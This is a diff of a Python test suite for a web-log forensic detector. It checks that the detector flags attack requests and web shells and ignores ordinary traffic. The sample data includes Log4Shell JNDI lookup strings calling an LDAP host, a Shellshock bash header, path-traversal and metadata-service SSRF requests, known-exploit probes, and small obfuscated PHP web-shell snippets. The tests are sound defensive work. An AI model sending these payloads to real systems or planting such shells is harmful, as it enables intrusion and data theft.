@@ -51,7 +51,7 @@ def test_requests_to_a_shell_and_attacks() -> None:
     text = line.format("POST /up/x.php?a=1 HTTP/1.1") + line.format("GET /?q=../../../etc/passwd HTTP/1.1")
     text += line.format("GET /index.html HTTP/1.1") + "broken line\n"
     log = Artifact("web log", "access.log", len(text))
-    items = list(web_rules.requests(text, artifact=log, shells={"/up/x.php": "/var/www/html/up/x.php"}))
+    items = list(web_rules.requests(text.split("\n"), artifact=log, shells={"/up/x.php": "/var/www/html/up/x.php"}))
     findings = [item for item in items if isinstance(item, Finding)]
     assert [(finding.severity, finding.technique) for finding in findings] == [
         ("critical", "T1505.003"),
@@ -67,3 +67,103 @@ def test_urls_of_files_below_web_roots() -> None:
     urls = web_rules.urls_of(["/var/www/html/a/x.php", "/srv/http/y.php"], served=("/var/www", "/srv/http"))
     assert urls["/a/x.php"] == "/var/www/html/a/x.php"
     assert urls["/y.php"] == "/srv/http/y.php"
+
+
+WHEN = "[01/Mar/2026:10:00:00 +0000]"
+
+
+@pytest.mark.parametrize(
+    ("line", "kind", "technique"),
+    [
+        (
+            f'203.0.113.9 - - {WHEN} "GET / HTTP/1.1" 200 5 "-" "${{jndi:ldap://198.51.100.7/a}}"',
+            "Lookup injection",
+            "T1190",
+        ),
+        (
+            f'203.0.113.9 - - {WHEN} "GET / HTTP/1.1" 200 5 "${{${{lower:j}}ndi:ldap://x/a}}" "x"',
+            "Lookup injection",
+            "T1190",
+        ),
+        (
+            f'203.0.113.9 - - {WHEN} "GET /c HTTP/1.1" 200 5 "-" "() {{ :;}}; /bin/bash -c id"',
+            "Shell function in a header",
+            "T1190",
+        ),
+        (
+            f'203.0.113.9 - - {WHEN} "GET /a?f=%252e%252e%252f%252e%252e%252fetc%252fhosts HTTP/1.1" 404 5',
+            "Path out of the web root",
+            "T1190",
+        ),
+        (
+            f'203.0.113.9 - - {WHEN} "GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1" 404 5 "-" "x"',
+            "Exploit of a known weakness",
+            "T1190",
+        ),
+        (
+            f'203.0.113.9 - - {WHEN} "GET /index.php?s=/Index/\\\\think\\\\app/invokefunction&function=call HTTP/1.1" 404 5 "-" "x"',
+            "Exploit of a known weakness",
+            "T1190",
+        ),
+        (
+            f'203.0.113.9 - - {WHEN} "GET /fetch?u=http://169.254.169.254/latest/meta-data/ HTTP/1.1" 200 5 "-" "x"',
+            "Metadata service asked for through a request",
+            "T1552.005",
+        ),
+        (
+            f'shop.example.com:443 203.0.113.9 - - {WHEN} "GET /.env HTTP/1.1" 404 5 "-" "x"',
+            "Vulnerability scan",
+            "T1595.002",
+        ),
+        (
+            '{"time_iso8601":"2026-03-01T10:00:00+00:00","remote_addr":"203.0.113.9","request_method":"GET","request_uri":"/a?q=1 union select 2","status":"200"}',
+            "SQL in a request",
+            "T1190",
+        ),
+        (
+            '{"ts":1772359200.5,"request":{"remote_ip":"203.0.113.9","method":"GET","uri":"/","headers":{"User-Agent":["${jndi:ldap://x}"]}},"status":200}',
+            "Lookup injection",
+            "T1190",
+        ),
+        (
+            '{"StartUTC":"2026-03-01T10:00:00.5Z","ClientHost":"203.0.113.9","RequestMethod":"GET","RequestPath":"/.git/config","DownstreamStatus":404}',
+            "Vulnerability scan",
+            "T1595.002",
+        ),
+    ],
+)
+def test_attacks_in_any_part_of_a_request_and_any_form_of_log(line: str, kind: str, technique: str) -> None:
+    artifact = Artifact("web log", "/var/log/nginx/access.log", len(line))
+    said = [item for item in web_rules.requests([line], artifact=artifact, shells={}) if isinstance(item, Finding)]
+    assert [(item.title, item.technique) for item in said] == [(f"{kind} from 203.0.113.9", technique)]
+    assert (artifact.lines, artifact.parsed) == (1, 1)
+    assert said[0].time is not None and said[0].time.isoformat().startswith("2026-03-01T10:00:00")
+
+
+def test_ordinary_requests_are_left_alone() -> None:
+    lines = [
+        f'203.0.113.9 - frank {WHEN} "GET /search?q=union+jack HTTP/2.0" 200 5 "https://example.com/?a=b&c=d" "Mozilla/5.0 (X11; Linux x86_64)"',
+        f'203.0.113.9 - - {WHEN} "POST /api/v1/run;v=2?curl=1 HTTP/1.1" 201 5 "-" "curl/8.5.0"',
+        f'203.0.113.9 - - {WHEN} "GET /price%20list/100%25.pdf HTTP/1.1" 200 5 "-" "x"',
+    ]
+    artifact = Artifact("web log", "a", 1)
+    assert [i for i in web_rules.requests(lines, artifact=artifact, shells={}) if isinstance(i, Finding)] == []
+    assert artifact.parsed == 3
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        '<?php $f = base64_decode("c3lzdGVt"); $f($_GET["c"]);',
+        '<?php $a = strrev("metsys"); echo @$a($cmd);',
+        '<?php array_map("system", array($_REQUEST["x"]));',
+        '<?php include $_GET["page"];',
+    ],
+)
+def test_web_shells_by_what_they_do(content: str) -> None:
+    assert web_rules.what_it_does(content)
+
+
+def test_libraries_that_decode_are_no_web_shells() -> None:
+    assert web_rules.what_it_does("<?php require_once($_SERVER['DOCUMENT_ROOT'].'/inc/db.php');") is None
+    assert web_rules.what_it_does("<?php $data = base64_decode($token); if (!$data) { return strlen($data); }") is None
